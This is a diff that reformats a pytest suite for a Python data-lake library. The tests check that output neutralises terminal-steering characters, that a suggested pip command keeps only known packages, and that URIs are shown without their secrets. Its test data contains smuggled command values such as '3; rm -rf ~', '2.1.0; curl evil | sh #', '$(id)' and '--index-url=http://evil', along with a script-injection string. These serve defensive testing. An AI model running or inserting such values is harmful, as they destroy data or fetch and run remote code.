@@ -31,7 +31,9 @@ STEERING = {"Cc", "Cf", "Zl", "Zp"}
 
 def raw(text):
     """What of a text a terminal would obey, line breaks and tabs aside."""
-    return [f"U+{ord(c):04X}" for c in text if unicodedata.category(c) in STEERING and c not in "\n\t"]
+    return [
+        f"U+{ord(c):04X}" for c in text if unicodedata.category(c) in STEERING and c not in "\n\t"
+    ]
 
 
 SNEAKY = "x\u202egpj\u2066\u2028\u2029\u200b\ufeff\U000e0041<script>alert(1)</script>"
@@ -40,11 +42,27 @@ SNEAKY = "x\u202egpj\u2066\u2028\u2029\u200b\ufeff\U000e0041<script>alert(1)</sc
 
 def strange_lake(folder, text):
     lake = el.create(folder, "o")
-    lake.append([{"id": text, "source": text, "type": f"T{text}", "subject": f"/{text}", "data": {EVIL: EVIL}}])
+    lake.append(
+        [
+            {
+                "id": text,
+                "source": text,
+                "type": f"T{text}",
+                "subject": f"/{text}",
+                "data": {EVIL: EVIL},
+            }
+        ]
+    )
     lake.register("Rx", {"type": "object", "properties": {"f\u202e": {"type": "string"}}})
     query = "SELECT subject, count(*) AS n FROM events GROUP BY subject"
     lake.build(el.Projection.sql("a", query, key=["subject"]))
-    lake.build(el.Projection.sql("b", f"SELECT subject, count(*) AS n, 'a' AS \"{SNEAKY}\" FROM events GROUP BY subject", key=["subject"]))
+    lake.build(
+        el.Projection.sql(
+            "b",
+            f"SELECT subject, count(*) AS n, 'a' AS \"{SNEAKY}\" FROM events GROUP BY subject",
+            key=["subject"],
+        )
+    )
     return lake
 
 
@@ -63,7 +81,17 @@ def hostile(tmp_path, monkeypatch):
     root = tmp_path / "hostile"
     lake = strange_lake(root, "x")
     monkeypatch.setattr(read_events, "rule_problems", lambda batch: [])
-    lake.append([{"id": EVIL, "source": EVIL, "type": f"T{SNEAKY}", "subject": f"/{EVIL}", "data": {EVIL: EVIL}}])
+    lake.append(
+        [
+            {
+                "id": EVIL,
+                "source": EVIL,
+                "type": f"T{SNEAKY}",
+                "subject": f"/{EVIL}",
+                "data": {EVIL: EVIL},
+            }
+        ]
+    )
     monkeypatch.undo()
     assert el.open(root).snapshot().event(1)["id"] == EVIL
     return root
@@ -122,21 +150,34 @@ COMMANDS = [
 
 @pytest.mark.parametrize("command", COMMANDS)
 def test_no_command_prints_what_a_terminal_would_obey(strange, capsys, command):
-    said = run(strange.uri, [dataset.manifest_hash for dataset in strange.datasets()], SNEAKY, command, capsys)
+    said = run(
+        strange.uri,
+        [dataset.manifest_hash for dataset in strange.datasets()],
+        SNEAKY,
+        command,
+        capsys,
+    )
     assert raw(said) == []
     assert said
 
 
 @pytest.mark.parametrize("command", COMMANDS)
-def test_no_command_prints_what_a_terminal_would_obey_of_a_lake_that_broke_the_rules(hostile, capsys, command):
-    hashes = sorted(json.loads(path.read_text())["manifest_hash"] for path in hostile.glob("builds/*/*/*/provenance.json"))
+def test_no_command_prints_what_a_terminal_would_obey_of_a_lake_that_broke_the_rules(
+    hostile, capsys, command
+):
+    hashes = sorted(
+        json.loads(path.read_text())["manifest_hash"]
+        for path in hostile.glob("builds/*/*/*/provenance.json")
+    )
     said = run(str(hostile), hashes, EVIL.replace("\x00", ""), command, capsys)
     assert raw(said) == []
     assert said
 
 
 @pytest.mark.parametrize("command", COMMANDS)
-def test_no_command_prints_what_a_terminal_would_obey_of_a_commit_that_cannot_be(mislabelled, capsys, command):
+def test_no_command_prints_what_a_terminal_would_obey_of_a_commit_that_cannot_be(
+    mislabelled, capsys, command
+):
     said = run(str(mislabelled), ["a" * 64, "b" * 64], SNEAKY, command, capsys)
     assert raw(said) == []
     assert said
@@ -232,7 +273,11 @@ def test_a_traceback_of_a_query_that_fails_on_a_value_steers_nothing(strange, qu
 
 
 def test_a_traceback_of_python_that_does_not_parse_steers_nothing(strange, tmp_path):
-    folder = definition(tmp_path / "d", 'name = "d"\nkey = ["id"]\npython = "p.py:f"\n', p__py="x = 'a\x1b[31m\u202eb\n")
+    folder = definition(
+        tmp_path / "d",
+        'name = "d"\nkey = ["id"]\npython = "p.py:f"\n',
+        p__py="x = 'a\x1b[31m\u202eb\n",
+    )
     with pytest.raises(EventlakeError) as caught:
         strange.build(el.read_definition(folder))
     told = "".join(traceback.format_exception(caught.value))
@@ -245,17 +290,28 @@ def test_warnings_about_features_steer_nothing(strange):
     strange.register(event_type, {"type": "object", "properties": {"n": {"type": "integer"}}})
     features = el.FeatureSet("f", features=[el.count(event_type).name("n")], known="watermark")
     with pytest.warns(UserWarning, match="no entity of the spine has an event of") as caught:
-        strange.build(features, spine=pl.DataFrame({"subject": ["nobody"], "cutoff": [datetime(2027, 1, 1, tzinfo=UTC)]}))
+        strange.build(
+            features,
+            spine=pl.DataFrame(
+                {"subject": ["nobody"], "cutoff": [datetime(2027, 1, 1, tzinfo=UTC)]}
+            ),
+        )
     assert raw("".join(str(one.message) for one in caught)) == []
 
 
 def test_every_warning_is_given_by_the_function_that_makes_it_safe():
     package = Path(el.__file__).parent
-    assert [file.name for file in package.rglob("*.py") if "warnings.warn(" in file.read_text()] == ["visible.py"]
+    assert [
+        file.name for file in package.rglob("*.py") if "warnings.warn(" in file.read_text()
+    ] == ["visible.py"]
 
 
 def test_errors_cards_pages_and_progress_spell_every_steering_character():
-    everything = "".join(c for c in map(chr, range(0x110000)) if unicodedata.category(c) in STEERING and c not in "\n\t")
+    everything = "".join(
+        c
+        for c in map(chr, range(0x110000))
+        if unicodedata.category(c) in STEERING and c not in "\n\t"
+    )
     error = EventlakeError(everything, everything)
     card = Card(everything, ((everything, everything),), (everything,), ((everything,),))
     sections = [Section(everything, (everything,), (everything,), ((everything,),), everything)]
@@ -268,8 +324,20 @@ def test_errors_cards_pages_and_progress_spell_every_steering_character():
 
     with shown_by(Listens()), task(everything, 1):
         pass
-    shown = [str(error), repr(error), error.message, error.hint, card.title, *card.facts[0], *card.header, *card.rows[0], *said]
-    assert raw(" ".join([*shown, as_text(everything, sections), as_html(everything, sections)])) == []
+    shown = [
+        str(error),
+        repr(error),
+        error.message,
+        error.hint,
+        card.title,
+        *card.facts[0],
+        *card.header,
+        *card.rows[0],
+        *said,
+    ]
+    assert (
+        raw(" ".join([*shown, as_text(everything, sections), as_html(everything, sections)])) == []
+    )
     assert "\\x1b" in error.message
     assert "\\u202e" in card.title
     assert json.loads(visible.json_text(json.dumps(everything, ensure_ascii=False))) == everything
@@ -288,12 +356,32 @@ def test_warnings_steer_nothing(strange, tmp_path):
 @pytest.mark.parametrize(
     ("python", "versions", "command"),
     [
-        ("3.11.9", {"polars": "2.1.0", "duckdb": "2.0.1"}, "python3.11 -m venv then && then/bin/pip install duckdb==2.0.1 polars==2.1.0"),
-        ("3.11", {"polars": "2.1.0rc1+local.1"}, "python3.11 -m venv then && then/bin/pip install polars==2.1.0rc1+local.1"),
-        ("3.11", {"polars": "1!2.0"}, "python3.11 -m venv then && then/bin/pip install 'polars==1!2.0'"),
-        ("3; rm -rf ~", {"polars": "2.1.0; curl evil | sh #", "duckdb": "2.0"}, "python3 -m venv then && then/bin/pip install duckdb==2.0"),
+        (
+            "3.11.9",
+            {"polars": "2.1.0", "duckdb": "2.0.1"},
+            "python3.11 -m venv then && then/bin/pip install duckdb==2.0.1 polars==2.1.0",
+        ),
+        (
+            "3.11",
+            {"polars": "2.1.0rc1+local.1"},
+            "python3.11 -m venv then && then/bin/pip install polars==2.1.0rc1+local.1",
+        ),
+        (
+            "3.11",
+            {"polars": "1!2.0"},
+            "python3.11 -m venv then && then/bin/pip install 'polars==1!2.0'",
+        ),
+        (
+            "3; rm -rf ~",
+            {"polars": "2.1.0; curl evil | sh #", "duckdb": "2.0"},
+            "python3 -m venv then && then/bin/pip install duckdb==2.0",
+        ),
         ("3.11\x1b[31m", {"polars": "$(id)", "duckdb": "2.0\n"}, "python3.11 -m venv then"),
-        (None, {"evil-package": "1.0", "polars": "--index-url=http://evil"}, "python3 -m venv then"),
+        (
+            None,
+            {"evil-package": "1.0", "polars": "--index-url=http://evil"},
+            "python3 -m venv then",
+        ),
     ],
 )
 def test_a_command_to_paste_holds_known_packages_and_versions_alone(python, versions, command):
@@ -312,12 +400,21 @@ def test_a_command_to_paste_holds_known_packages_and_versions_alone(python, vers
         ("file://user:pw@host/lake", "file://***@host/lake"),
         ("gs://bucket/lake?token=SECRET#SECRET", "gs://bucket/lake?***"),
         ("s3://bucket/lake#SECRET", "s3://bucket/lake#***"),
-        ("abfss://container@account.dfs.core.windows.net/lake", "abfss://container@account.dfs.core.windows.net/lake"),
-        ("abfss://container:SECRET@account.dfs.core.windows.net/lake", "abfss://***@account.dfs.core.windows.net/lake"),
+        (
+            "abfss://container@account.dfs.core.windows.net/lake",
+            "abfss://container@account.dfs.core.windows.net/lake",
+        ),
+        (
+            "abfss://container:SECRET@account.dfs.core.windows.net/lake",
+            "abfss://***@account.dfs.core.windows.net/lake",
+        ),
         ("s3://bucket/team@x/lake", "s3://bucket/team@x/lake"),
         ("https://host/users/me@x?page=2#top", "https://host/users/me@x?page=2#top"),
         ("https://host:8080/users?page=2#top", "https://host:8080/users?page=2#top"),
-        ("http://localhost:9000/me@x and http://127.0.0.1:9000/me@x", "http://localhost:9000/me@x and http://127.0.0.1:9000/me@x"),
+        (
+            "http://localhost:9000/me@x and http://127.0.0.1:9000/me@x",
+            "http://localhost:9000/me@x and http://127.0.0.1:9000/me@x",
+        ),
         ("http://minio:9000: refused", "http://minio:9000: refused"),
         ("http://minio:9000/bucket/me@x", "http://***@x"),
         ("https://KEY:1234/SECRET@host/p", "https://***@host/p"),
@@ -342,7 +439,10 @@ def test_a_command_to_paste_holds_known_packages_and_versions_alone(python, vers
         ("http://localhost:9000,s3://KEY:SECRET@b", "http://localhost:9000,s3://***@b"),
         ("file:///x:https://KEY:SECRET@host", "file:///x:https://***@host"),
         ("mongodb://KEY:SECRET@a,KEY:SECRET@b/x", "mongodb://***@b/x"),
-        ("https://b.s3.amazonaws.com/k?X-Amz-Signature=SECRET&n=1", "https://b.s3.amazonaws.com/k?X-Amz-Signature=***&n=1"),
+        (
+            "https://b.s3.amazonaws.com/k?X-Amz-Signature=SECRET&n=1",
+            "https://b.s3.amazonaws.com/k?X-Amz-Signature=***&n=1",
+        ),
         ("/srv/a@b/lake", "/srv/a@b/lake"),
         ("bank.example/loans 12@abcdef", "bank.example/loans 12@abcdef"),
         ("file:///x#1", "file:///x#1"),
@@ -377,8 +477,16 @@ def test_a_command_to_paste_holds_known_packages_and_versions_alone(python, vers
 def test_a_uri_is_shown_without_its_secrets(text, shown):
     assert visible.redacted(text) == shown
     error = EventlakeError(text, text, uri=text)
-    assert (error.message, error.hint, error.facts, error.args) == (shown, shown, {"uri": shown}, (shown, shown, {"uri": shown}))
-    assert not re.search(r"SECRET|KEY|TOKEN|\bpw\b", f"{error} {error!r} {Card(text, ((text, text),), (text,), ((text,),))}")
+    assert (error.message, error.hint, error.facts, error.args) == (
+        shown,
+        shown,
+        {"uri": shown},
+        (shown, shown, {"uri": shown}),
+    )
+    assert not re.search(
+        r"SECRET|KEY|TOKEN|\bpw\b",
+        f"{error} {error!r} {Card(text, ((text, text),), (text,), ((text,),))}",
+    )
 
 
 @pytest.mark.parametrize(
@@ -401,8 +509,14 @@ def test_a_long_uri_is_shown_without_its_secrets_in_linear_time(text, shown):
 
 def test_facts_of_an_error_are_without_secrets_at_any_depth():
     given, shown = "s3://KEY:SECRET@bucket", "s3://***@bucket"
-    facts = EventlakeError("m", options={"uri": given, given: (1, [given])}, some=[given], names={given}).facts
-    assert facts == {"options": {"uri": shown, shown: (1, [shown])}, "some": [shown], "names": {shown}}
+    facts = EventlakeError(
+        "m", options={"uri": given, given: (1, [given])}, some=[given], names={given}
+    ).facts
+    assert facts == {
+        "options": {"uri": shown, shown: (1, [shown])},
+        "some": [shown],
+        "names": {shown},
+    }
     endless = []
     endless.append(endless)
     assert "***" in repr(EventlakeError("m", endless=endless).facts)
@@ -422,7 +536,13 @@ def test_a_diff_shows_no_secret_of_the_queries_that_it_compares():
     lake = el.create(MemoryStorage(), "o")
     lake.append([{"id": "1", "source": "s", "type": "t", "subject": "/a"}])
     one, other = (
-        lake.build(el.Projection.sql("a", f"SELECT subject, length('https://u:{word}@h/x') AS n FROM events", key=["subject"]))
+        lake.build(
+            el.Projection.sql(
+                "a",
+                f"SELECT subject, length('https://u:{word}@h/x') AS n FROM events",
+                key=["subject"],
+            )
+        )
         for word in ("HUNTER2", "HUNTER33")
     )
     compared = lake.diff(one.manifest_hash, other.manifest_hash)
